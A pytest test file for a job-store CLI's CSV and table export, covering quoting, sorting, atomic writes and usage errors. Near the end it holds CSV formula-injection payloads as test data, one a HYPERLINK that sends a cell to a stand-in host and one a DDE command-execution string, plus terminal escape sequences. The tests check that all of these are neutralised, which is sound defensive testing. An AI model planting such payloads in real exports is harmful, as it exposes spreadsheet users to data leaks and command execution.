"""``jobman export`` (jobstore/cli/export.py): CSV cells and quoting read back with the csv module,
the psql-style table, the column list and ordering, atomic output files, and the command on a
SQLite table."""
from __future__ import annotations

import csv
import io
import os

import pytest

from jobstore import status as st
from jobstore.cli.export import build_parser, check_writable, run, write_atomic
from jobstore.errors import UsageError
from jobstore.report.export import FIXED_COLUMNS, cell, columns_for, sort_jobs, to_csv, to_table
from jobstore.store import Job, open_db

EXP = "mlp_jobman.experiment"
AWKWARD = ['a "quoted", value\nsecond line, with a comma', "tab\there", "windows\r\nline", "ünïcödé ✓",
           ",", '"', "  padded  "]


def job(id_: int, status: int = st.DONE, priority: float = 1.0, **state) -> Job:
    return Job(id=id_, status=status, priority=priority, experiment=EXP, state=state)


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("value, text", [
    (None, ""),
    (3, "3"),
    (0.1 + 0.2, "0.30000000000000004"),  # every digit: read_csv gives back the stored float
    (1e-300, "1e-300"),
    (True, "True"),
    ("text", "text"),
    ([1, "a"], '[1, "a"]'),
    ({"b": 1, "a": [2]}, '{"a": [2], "b": 1}'),  # sorted keys: the same text from one export to the next
])
def test_cell(value, text):
    assert cell(value) == text


def test_csv_round_trip_of_commas_quotes_and_newlines():
    jobs = [job(i + 1, note=v, loss=0.1 * (i + 1)) for i, v in enumerate(AWKWARD)]
    text = to_csv(jobs, ["note", "loss", "absent"])
    rows = read_csv(text)
    assert rows[0] == [*FIXED_COLUMNS, "note", "loss", "absent"]
    assert len(rows) == len(AWKWARD) + 1
    for j, row in zip(jobs, rows[1:]):
        assert row == [str(j.id), "DONE", "1.0", j.state["note"], repr(j.state["loss"]), ""]
        assert float(row[4]) == j.state["loss"]


def test_csv_status_names_and_priorities():
    rows = read_csv(to_csv([job(1, st.START, 2.5), job(2, st.ERR_RUN), job(3, st.CANCELED)], []))
    assert rows == [list(FIXED_COLUMNS), ["1", "START", "2.5"], ["2", "ERR_RUN", "1.0"], ["3", "CANCELED", "1.0"]]


def test_table_is_aligned_like_psql():
    jobs = [job(1, best_validation_loss=0.25, note="a, b"), job(12, st.START, 2.0)]
    assert to_table(jobs, ["best_validation_loss", "note"], fixed=True) == (
        " id | status | priority | bestvalidationloss | note\n"
        "----+--------+----------+--------------------+------\n"
        "  1 | DONE   |        1 |               0.25 | a, b\n"
        " 12 | START  |        2 |                    |\n"
        "(2 rows)\n")


def test_table_with_chosen_keys_only():
    # Header widths are chosen so that centring pads evenly: psql and str.center then agree.
    jobs = [job(1, validation_error_of_best=1 / 3, n_hidden=100, opt="adamw")]
    assert to_table(jobs, ["validation_error_of_best", "n_hidden", "opt"], fixed=False) == (
        " validationerrorofbest | nhidden |  opt \n"
        "-----------------------+---------+-------\n"
        "              0.333333 |     100 | adamw\n"
        "(1 row)\n")


def test_table_cells_stay_on_one_line_and_short():
    """Issue 19, item 12: the fixed columns kept, floats to 6 digits, long values cut in the middle,
    a traceback as its exception line, a newline never breaking a row."""
    path = "/very/long/path/" + "x" * 80 + "/checkpoint.pkl"
    j = job(1, lr=0.000123456789, path=path, note="two\nlines")
    j.error = "Traceback (most recent call last):\n  File ...\nValueError: boom\n"
    lines = to_table([j], ["lr", "path", "note", "error"]).splitlines()
    assert len(lines) == 4 and lines[0].split("|")[:3] == [" id ", " status ", " priority "]
    cells = [c.strip() for c in lines[2].split("|")]
    assert cells[3] == "0.000123457" and cells[5] == "two\\nlines" and cells[6] == "ValueError: boom"
    assert len(cells[4]) == 60 and cells[4].startswith("/very/long/path/xx") and cells[4].endswith("x/checkpoint.pkl")
    assert "..." in cells[4]


def test_table_of_no_jobs():
    assert to_table([], ["loss"], fixed=False) == " loss\n------\n(0 rows)\n"


def test_sort_by_a_numeric_key_missing_values_last():
    jobs = [job(1, loss=0.3), job(2), job(3, loss=0.1), job(4, loss=0.2), job(5, loss=None)]
    assert [j.id for j in sort_jobs(jobs, "loss", desc=False)] == [3, 4, 1, 2, 5]
    assert [j.id for j in sort_jobs(jobs, "loss", desc=True)] == [1, 4, 3, 2, 5]


def test_sort_by_a_text_key():
    jobs = [job(1, opt="sgd"), job(2, opt="adam"), job(3), job(4, opt="rmsprop")]
    assert [j.id for j in sort_jobs(jobs, "opt", desc=False)] == [2, 4, 1, 3]
    assert [j.id for j in sort_jobs(jobs, "opt", desc=True)] == [1, 4, 2, 3]


@pytest.fixture
def db_url(tmp_path):
    url = f"sqlite:///{tmp_path}/jobs.db?table=jobs"
    with open_db(url) as store:
        store.insert_jobs([{"jobman.experiment": EXP, "n_hidden": h, "note": AWKWARD[0]} for h in (10, 30, 20)])
        job_ = store.claim(worker="w", host="h", lease_s=60, max_attempts=3)
        store.finish(job_.id, job_.attempt, status=st.DONE, end_reason="completed",
                     state={**job_.state, "loss": 0.25})
    return url


def test_columns_are_the_tables_keys_in_order_of_first_appearance(db_url):
    with open_db(db_url) as store:
        jobs = store.jobs()
        keys = columns_for(store, jobs, None)
        assert [k for k in keys if not k.startswith("jobman.")] == ["n_hidden", "note", "loss"]
        assert not {"jobman.id", "jobman.status", "jobman.sql.priority"} & set(keys)  # the fixed columns
        assert columns_for(store, jobs, ["loss", "n_hidden"]) == ["loss", "n_hidden"]
        with pytest.raises(UsageError, match="unknown key 'accuracy' in --keys: the table's keys are .*n_hidden"):
            columns_for(store, jobs, ["accuracy"])


def export(url: str, *args: str) -> int:
    return run(build_parser("jobman export").parse_args([url, *args]))


def test_command_writes_csv_to_stdout(db_url, capsys):
    assert export(db_url, "--keys=n_hidden,note,loss", "--sort=n_hidden", "--desc") == 0
    rows = read_csv(capsys.readouterr().out)
    assert rows[0] == [*FIXED_COLUMNS, "n_hidden", "note", "loss"]
    assert [(r[0], r[1], r[3], r[4], r[5]) for r in rows[1:]] == [
        ("2", "START", "30", AWKWARD[0], ""), ("3", "START", "20", AWKWARD[0], ""), ("1", "DONE", "10", AWKWARD[0], "0.25")]


def test_command_filters_by_status_and_prints_a_table(db_url, capsys):
    assert export(db_url, "--status=DONE", "--keys=n_hidden,loss", "--format=table") == 0
    assert capsys.readouterr().out == (" id | status | priority | nhidden | loss\n"
                                       "----+--------+----------+---------+------\n"
                                       "  1 | DONE   |        1 |      10 | 0.25\n"
                                       "(1 row)\n")


def test_command_writes_a_file_atomically(db_url, tmp_path, capsys):
    out = tmp_path / "out" / "jobs.csv"
    out.parent.mkdir()
    assert export(db_url, "-o", str(out)) == 0
    assert capsys.readouterr().err == f"wrote 3 jobs to {out}\n"
    assert os.listdir(out.parent) == ["jobs.csv"]  # no temporary file left behind
    assert len(read_csv(out.read_text())) == 4


@pytest.mark.parametrize("args, match", [
    (["--keys=, ,"], "empty --keys ', ,'"),
    (["--sort=accuracy"], "unknown key 'accuracy' in --sort"),
    (["--status=FINISHED"], "unknown status 'FINISHED'"),
])
def test_command_usage_errors(db_url, args, match):
    with pytest.raises(UsageError, match=match):
        export(db_url, *args)


def test_unwritable_outputs_are_refused_before_any_work(tmp_path):
    with pytest.raises(UsageError, match="it is a directory"):
        check_writable(str(tmp_path))
    missing = tmp_path / "nowhere" / "jobs.csv"
    with pytest.raises(UsageError, match=f"cannot write '{missing}': no directory"):
        check_writable(str(missing))
    with pytest.raises(UsageError, match="no directory"):
        export(f"sqlite:///{tmp_path}/absent.db?table=jobs", "-o", str(missing))
    assert not (tmp_path / "absent.db").exists()  # refused before the database was opened


def test_write_atomic_replaces_the_file_whole(tmp_path):
    path = tmp_path / "jobs.csv"
    path.write_text("old contents, longer than the new ones\n")
    write_atomic(str(path), b"new\n")
    assert path.read_bytes() == b"new\n"
    assert os.listdir(tmp_path) == ["jobs.csv"]


def test_csv_formula_cells_are_neutralised_unless_raw_formulas_is_asked():
    evil = ['=HYPERLINK("http://x/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1"]
    jobs = [job(i + 1, note=v, loss=-0.5) for i, v in enumerate(evil)]
    rows = read_csv(to_csv(jobs, ["note", "loss", "=key"]))
    assert rows[0][-1] == "'=key"
    assert [r[3] for r in rows[1:]] == ["'" + v for v in evil]
    assert {r[4] for r in rows[1:]} == {"-0.5"}  # numbers stay numbers
    raw = read_csv(to_csv(jobs, ["note"], raw_formulas=True))
    assert [r[3] for r in raw[1:]] == evil


def test_tables_escape_control_characters():
    text = to_table([job(1, note="a\x1b]0;pwned\x07b\nc\x9bq")], ["note"], fixed=True)
    assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    assert "a\\x1b]0;pwned\\x07b\\nc\\x9bq" in text


def test_sqlstatus_job_lines_escape_control_characters():
    from jobstore.cli.sqlstatus import job_line

    line = job_line(job(1, note="a\x1b]0;pwned\x07b"), ["note"])
    assert "\x1b" not in line and "\x07" not in line and "note=a\\x1b]0;pwned\\x07b" in line
